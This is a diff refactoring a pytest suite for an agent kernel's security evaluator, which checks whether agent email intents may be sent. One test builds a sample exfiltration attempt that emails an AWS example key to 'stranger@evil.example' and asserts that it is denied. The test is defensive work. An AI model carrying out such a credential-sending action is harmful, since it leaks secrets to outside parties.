@@ -7,13 +7,11 @@ an evaluator that raises, hangs or answers nonsense denies (``SSE.INTERNAL``).
 from __future__ import annotations
 
 import asyncio
-from collections.abc import Awaitable, Callable
-from pathlib import Path
 from typing import Any
 
 import pytest
 
-from maos.kernel.kernel import Kernel, KernelConfig, SmtpConfig
+from maos.kernel.kernel import Kernel, KernelConfig
 from maos.kernel.labels import Label
 from maos.kernel.sse import SseDeny, SsePass, SseVerdict
 from maos.kernel.tokens import Grant
@@ -26,19 +24,10 @@ from maos.services.sse import (
     iban_ok,
     luhn_ok,
 )
-from maos.testing import ChatReply, ChatServer, Mailbox, loopback_openai
+from maos.testing import ChatReply, ChatServer, Mailbox, intent_frame, loopback_openai, with_kernel
 
 TASK = "t1"
 AWS_KEY = "AKIAIOSFODNN7EXAMPLE"
-
-
-@pytest.fixture
-def config(tmp_path: Path, mailbox: Mailbox) -> KernelConfig:
-    return KernelConfig(
-        data_dir=tmp_path / "data",
-        smtp=SmtpConfig("127.0.0.1", mailbox.port, "maos@test.local"),
-        follow_interval=0.02,
-    )
 
 
 class Counting:
@@ -74,32 +63,8 @@ async def _setup(kernel: Kernel) -> str:
     return kernel.mint("a1", TASK, [Grant("fs.*", "*"), Grant("email.send", "*")])
 
 
-def _intent(token: str, op: str, target: str, key: str, **params: Any) -> dict[str, Any]:
-    api = 1 if op.startswith(("email.", "http.")) else 0
-    return {
-        "task_id": TASK,
-        "op": op,
-        "target": target,
-        "token": token,
-        "idempotency_key": key,
-        "params": params,
-        "cost": {"api_calls": api},
-    }
-
-
 def _mail(token: str, to: str, key: str, body: str) -> dict[str, Any]:
-    return _intent(token, "email.send", to, key, subject="s", body=body)
-
-
-def _boot(config: KernelConfig, sse: Any, body: Callable[[Kernel], Awaitable[Any]]) -> Any:
-    async def go() -> Any:
-        kernel = await Kernel.boot(config, sse=sse)
-        try:
-            return await body(kernel)
-        finally:
-            await kernel.close()
-
-    return asyncio.run(go())
+    return intent_frame(token, "email.send", to, key, subject="s", body=body)
 
 
 def _denials(kernel: Kernel) -> list[str]:
@@ -126,7 +91,7 @@ def test_key_to_named_recipient_is_denied_though_dsc_allows(
         )
         assert benign.status is OutcomeStatus.COMMITTED, benign
 
-    _boot(config, HeuristicEvaluator(), body)
+    with_kernel(config, body, sse=HeuristicEvaluator())
     assert mailbox.recipients() == ["boss@example.com"]
     assert AWS_KEY not in mailbox.messages[0].message.as_string()
 
@@ -136,7 +101,7 @@ def test_pending_intent_is_evaluated_and_may_be_denied_instead_of_parked(
 ) -> None:
     async def body(k: Kernel) -> None:
         token = await _setup(k)
-        await k.submit(_intent(token, "fs.read", "inbox/mail.txt", "r1"), agent_id="a1")
+        await k.submit(intent_frame(token, "fs.read", "inbox/mail.txt", "r1"), agent_id="a1")
         out = await k.submit(
             _mail(token, "stranger@evil.example", "m1", f"key {AWS_KEY}"), agent_id="a1"
         )
@@ -144,7 +109,7 @@ def test_pending_intent_is_evaluated_and_may_be_denied_instead_of_parked(
         assert out.code == "SSE.EXFILTRATION"
         assert k.approvals.awaiting_execution() == []
 
-    _boot(config, HeuristicEvaluator(), body)
+    with_kernel(config, body, sse=HeuristicEvaluator())
     assert mailbox.messages == []
 
 
@@ -153,7 +118,7 @@ def test_sse_is_not_consulted_when_dsc_denies_nor_for_reads(config: KernelConfig
 
     async def body(k: Kernel) -> None:
         token = await _setup(k)
-        read = await k.submit(_intent(token, "fs.read", "inbox/mail.txt", "r1"), agent_id="a1")
+        read = await k.submit(intent_frame(token, "fs.read", "inbox/mail.txt", "r1"), agent_id="a1")
         assert read.status is OutcomeStatus.COMMITTED
         bad = dict(_mail("not-a-token", "boss@example.com", "m1", "hi"))
         denied = await k.submit(bad, agent_id="a1")
@@ -170,7 +135,7 @@ def test_sse_is_not_consulted_when_dsc_denies_nor_for_reads(config: KernelConfig
         assert ok.status is OutcomeStatus.COMMITTED, ok
         assert probe.seen == ["email.send"]
 
-    _boot(config, probe, body)
+    with_kernel(config, body, sse=probe)
 
 
 @pytest.mark.parametrize("evaluator", [Counting(None), Counting(SsePass(), hang=True)])
@@ -185,7 +150,7 @@ def test_broken_or_silent_evaluator_fails_closed(
         assert out.code == "SSE.INTERNAL"
         assert _denials(k) == ["SSE.INTERNAL"]
 
-    _boot(config, evaluator, body)
+    with_kernel(config, body, sse=evaluator)
     assert mailbox.messages == []
 
 
@@ -198,7 +163,7 @@ def test_composite_first_deny_wins(config: KernelConfig, mailbox: Mailbox) -> No
         out = await k.submit(_mail(token, "boss@example.com", "m1", "hi"), agent_id="a1")
         assert out.code == "SSE.TEST"
 
-    _boot(config, CompositeEvaluator([HeuristicEvaluator(), first, later]), body)
+    with_kernel(config, body, sse=CompositeEvaluator([HeuristicEvaluator(), first, later]))
     assert first.seen == ["email.send"] and later.seen == []
     assert mailbox.messages == []
 
